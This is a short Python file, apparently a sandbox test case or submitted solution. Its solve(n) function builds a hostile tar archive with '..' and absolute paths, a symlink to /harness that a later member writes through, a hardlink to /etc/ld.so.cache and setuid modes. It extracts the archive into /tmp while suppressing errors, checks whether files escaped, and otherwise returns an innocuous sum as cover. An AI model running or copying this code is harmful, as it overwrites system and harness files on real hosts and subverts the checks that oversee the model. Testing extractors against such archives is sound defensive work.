# allowed: pass
# Names with "..", absolute names, and a symbolic link that a later member writes through.
import io, os, tarfile
def member(name, kind=tarfile.REGTYPE, link=""):
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname, entry.size, entry.mode = kind, link, 5 if kind == tarfile.REGTYPE else 0, 0o6755
    return entry
def solve(n):
    evil = io.BytesIO()
    with tarfile.open(fileobj=evil, mode="w") as archive:
        for entry in (member("../etc/owned"), member("/etc/owned"), member("way", tarfile.SYMTYPE, "/harness"), member("way/owned"),
                      member("lib", tarfile.LNKTYPE, "/etc/ld.so.cache"), member("../../proc/owned")):
            archive.addfile(entry, io.BytesIO(b"owned"))
    evil.seek(0)
    for entry in (archive := tarfile.open(fileobj=evil)):
        try: archive.extract(entry, "/tmp")
        except Exception: pass
    found = [path for path in ("/etc/owned", "/harness/owned", "/proc/owned", "/owned") if os.path.exists(path)]
    return found or sum(k * k for k in range(n))
